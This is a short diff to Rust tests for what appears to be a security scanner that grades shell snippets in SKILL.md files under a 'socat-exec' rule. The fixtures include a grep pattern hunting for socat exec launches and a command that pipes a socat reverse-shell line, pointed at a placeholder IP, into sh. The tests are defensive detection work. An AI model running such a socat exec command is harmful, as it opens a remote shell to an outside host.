@@ -28,8 +28,7 @@ fn round_49t_library_folders_and_app_folders() {
 #[test]
 fn round_49t_search_patterns_name_commands() {
     let rule = "network.socat-exec";
-    let hunt =
-        skill("```bash\ngrep -rnE 'socat .*exec:' ~/.config/autostart 2>/dev/null\n```\n");
+    let hunt = skill("```bash\ngrep -rnE 'socat .*exec:' ~/.config/autostart 2>/dev/null\n```\n");
     at(&[("SKILL.md", &hunt)], rule, Some(Low));
     let run = skill("```bash\ngrep -h 'socat tcp:192.0.2.4:80 exec:sh' notes.txt | sh\n```\n");
     at(&[("SKILL.md", &run)], rule, Some(Critical));
